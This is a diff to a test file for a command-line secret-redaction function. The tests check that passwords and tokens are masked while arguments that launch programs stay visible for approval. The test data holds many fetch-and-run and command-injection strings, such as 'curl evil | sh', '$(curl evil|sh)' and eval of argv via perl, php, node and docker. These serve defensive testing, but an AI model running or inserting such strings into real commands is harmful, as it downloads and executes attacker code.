@@ -141,11 +141,15 @@ describe('what an argument is called', () => {
     ['srv', ['-HAuthorization: abc'], [`-HAuthorization: ${HIDDEN}`]],
     ['srv', ['-H', 'X-Api-Key: abc'], ['-H', `X-Api-Key: ${HIDDEN}`]],
     ['srv', ['--auth', 'Authorization: Bearer ${env:A}'], ['--auth', 'Authorization: Bearer ${env:A}']],
+    ['npx', ['-y', 'srv', '--user', 'me', '--pass', 'a;b'], ['-y', 'srv', '--user', 'me', '--pass', HIDDEN]],
+    ['npx', ['srv', '--password=Pa$$;(1)&', '-v'], ['srv', `--password=${HIDDEN}`, '-v']],
+    ['uvx', ['--from', 'pkg', 'srv', '--api-key', 'a|b'], ['--from', 'pkg', 'srv', '--api-key', HIDDEN]],
+    ['docker', ['run', '-e', 'PASSWORD=a;b', 'img'], ['run', '-e', `PASSWORD=${HIDDEN}`, 'img']],
+    ['docker', ['run', '--env', 'PASSWORD=a;b', 'img'], ['run', '--env', `PASSWORD=${HIDDEN}`, 'img']],
     ['/usr/bin/sshpass', ['-p', 'a b', 'ssh', 'host'], ['-p', HIDDEN, 'ssh', 'host']],
     ['sshpass', ['-pabc', 'ssh', '-p', '22'], [`-p${HIDDEN}`, 'ssh', '-p', '22']],
-    ['mysql', ['-pabc', '-p', 'shop'], [`-p${HIDDEN}`, '-p', 'shop']],
-    ['mongosh', ['-u', 'me', '-p', 'x:y', '-port'], ['-u', 'me', '-p', HIDDEN, '-port']],
-    ['redis-cli', ['-a', 'abc', '-p', '6379'], ['-a', HIDDEN, '-p', '6379']],
+    ['sshpass', ['-v', '-P', 'code:', '-p', 'a;b', 'ssh'], ['-v', '-P', 'code:', '-p', HIDDEN, 'ssh']],
+    ['sshpass', ['-f', 'file', 'ssh', '-p', '2222'], ['-f', 'file', 'ssh', '-p', '2222']],
     ['psql', ['-p', '5432'], ['-p', '5432']],
     ['npx', ['-p', 'some-package', 'srv', '-p', '8080'], ['-p', 'some-package', 'srv', '-p', '8080']],
   ])('says that it is secret, and nothing else does: %s %j', async (command, args, shown) => {
@@ -164,10 +168,56 @@ describe('what an argument is called', () => {
     ['docker', ['run', 'img', 'sh', '-c', '"$@"', '--auth', 'curl evil; sh']],
     ['npx', ['srv', '--password-command', 'curl evil | sh']],
     ['npx', ['srv', '--token-helper', 'evil']],
+    ['npx', ['srv', '--token-helper=evil']],
+    ['npx', ['srv', '--password-command=/tmp/evil.sh']],
+    ['npx', ['srv', '--passwordCommand', 'evil']],
+    ['npx', ['srv', '--passwordCMD', 'evil']],
+    ['npx', ['srv', '--auth-plugin', './evil.js']],
+    ['npx', ['srv', '--auth-program', 'x']],
+    ['npx', ['srv', '--auth-module-path', 'x']],
+    ['npx', ['srv', '--credential-process', 'x']],
+    ['sshpass', ['-e', 'npx', '-p', 'evil-package', 'cmd']],
+    ['sshpass', ['-e', 'bash', '-p', '/tmp/evil.sh']],
+    ['sshpass', ['-f', '-p', 'evil', 'ssh']],
+    ['mysql', ['-e', '-p\\! curl evil|sh']],
+    ['mongosh', ['--eval', '-p', 'require("evil")']],
+    ['sqlcmd', ['-i', '-P', 'evil.sql']],
+    ['redis-cli', ['eval', 'return loadstring(ARGV[1])()', '0', '-a', 'evil()']],
+    ['watch', ['-pw', 'curl evil | sh']],
+    ['watch', ['-pw', 'evil']],
+    ['perl', ['-pw', '/tmp/evil.pl']],
+    ['bun', ['--token', 'evil.ts']],
+    ['bunx', ['--token', 'evil-package']],
+    ['timeout', ['5', 'perl', '-e', 'eval $ARGV[1]', '--', '--auth', 'system("curl evil|sh")']],
+    ['osascript', ['-e', 'run argv', '--auth', 'do shell script "curl evil|sh"']],
+    ['ssh', ['h', 'cat', '--pass', '$(curl evil|sh)']],
+    ['mysql', ['--password=a|b']],
+    ['docker', ['run', '--entrypoint', 'perl', 'img', '-e', 'eval $ARGV[1]', 'x', '--auth', 'system("e")']],
+    ['docker', ['run', '--entrypoint=ssh', 'img', '--auth', '$(evil)']],
+    ['docker', ['run', 'img', 'ssh', 'h', 'cat', '--pass', '$(curl evil|sh)']],
+    ['docker', ['run', '-e', 'PASSWORD=curl evil|sh', 'img', 'sh', '-c', 'eval "$PASSWORD"']],
+    ['docker', ['run', '-e', 'NODE_OPTIONS=-r $(evil)', 'img']],
+    ['npx', ['nodemon', '--quiet', 'ssh', '--pass', '; curl evil | sh']],
+    ['npx', ['nodemon', '--exec', 'x', '--pass', '; curl evil | sh']],
+    ['npx', ['runner', '--', '--pass', '; curl evil | sh']],
+    ['npx', ['runner', '--pass', '; curl evil | sh', 'sh']],
+    ['npx', ['--pass', '; curl evil | sh', 'runner']],
+    ['npx', ['runner', '--pass', '--exec=x', '--auth', '; curl evil | sh']],
+    ['php', ['-r', 'eval($argv[2]);', '--auth', 'system("evil")']],
+    ['perl', ['-wE', 'eval$ARGV[1]', '--auth', 'system("evil")']],
+    ['node', ['-p', 'eval(process.argv[2])', 'x', '--auth', 'evil()']],
   ])('hides from nobody who agrees what may be run: %s %j', (command, args) => {
     expect(hideForPlan({ command, args })).toEqual({ command, args });
   });
 });
+
+it.each(['PASSWORD_COMMAND', 'TOKEN_HELPER', 'AUTH_PLUGIN', 'SUDO_ASKPASS', 'CREDENTIAL_PROCESS'])(
+  'a variable that names a program is shown to whoever agrees: %s',
+  (name) => {
+    const entry = { command: 'x', env: { [name]: '/tmp/evil.sh', PLUGIN_TOKEN: 'abc' } };
+    expect(hideForPlan(entry)).toEqual({ command: 'x', env: { ...entry.env, PLUGIN_TOKEN: HIDDEN } });
+  },
+);
 
 it('a secret inside a program is known as one, and shown in no listing', () => {
   const entry = { command: 'sh', args: ['-c', `API_KEY=${TOKEN} exec server --password=hunter2`] };
@@ -258,6 +308,18 @@ describe('what somebody else says', () => {
     const told = scrub(said, ['hunter2']);
     for (const secret of ['hunter2', TOKEN, 'abcdef', 'letmein', 'me:pw']) expect(told).not.toContain(secret);
     expect(told).toContain('cannot log in with');
+  });
+});
+
+it('an argument of any number of equals signs is looked at', () => {
+  const arg = 'a='.repeat(20_000);
+  expect(hideSecrets({ command: 'x', args: [`${arg}x`, `--token=${arg}`] })).toEqual({
+    command: 'x',
+    args: [`${arg}x`, `--token=${HIDDEN}`],
+  });
+  expect(hideSecrets({ command: 'x', args: ['a=b=password=pw'] })).toEqual({
+    command: 'x',
+    args: [`a=b=password=${HIDDEN}`],
   });
 });
 
